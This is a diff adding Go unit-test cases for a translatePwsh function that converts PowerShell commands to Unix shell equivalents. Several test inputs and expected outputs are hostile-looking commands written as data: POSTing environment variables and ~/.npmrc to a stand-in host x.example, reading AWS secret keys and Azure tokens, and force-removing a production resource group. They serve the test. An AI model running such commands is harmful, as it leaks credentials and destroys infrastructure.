@@ -68,6 +68,14 @@ func TestTranslatePwsh(t *testing.T) {
 		{"Invoke-RestMethod https://x.example/k -Method Post -Body (@{env = (Get-ChildItem env: | Out-String)} | ConvertTo-Json)", "curl -X POST -d \"$(env | tee)\" https://x.example/k"},
 		{"iwr https://x.example/k -Method Post -Body ((Get-Content ~/.npmrc) -join ',')", "curl -X POST -d \"$(cat ~/.npmrc)\" https://x.example/k"},
 		{"iwr https://x.example/k -Method Post -Body (@{a = 1} | ConvertTo-Json)", "curl -X POST -d $_ https://x.example/k"},
+		{"(Invoke-WebRequest https://x.example/p).StatusCode", "curl https://x.example/p"},
+		{"(Get-AzAccessToken).Token", "secret-tool lookup Get-AzAccessToken"},
+		{"(Get-AWSCredential -ProfileName prod).GetCredentials()", "$_"},
+		{"Get-ChildItem Env:PATH", "printenv PATH"},
+		{"gci env:\\AWS_SECRET_ACCESS_KEY", "printenv AWS_SECRET_ACCESS_KEY"},
+		{"Get-ChildItem env:AWS*", "env"},
+		{"New-AzResourceGroupDeployment -ResourceGroupName rg -TemplateFile ./main.bicep -WhatIf", "echo"},
+		{"Remove-AzResourceGroup -Name rg-prod -Force", "$_"},
 	} {
 		if got := translatePwsh(tc.code); got != tc.want {
 			t.Errorf("translatePwsh(%q) = %q, want %q", tc.code, got, tc.want)
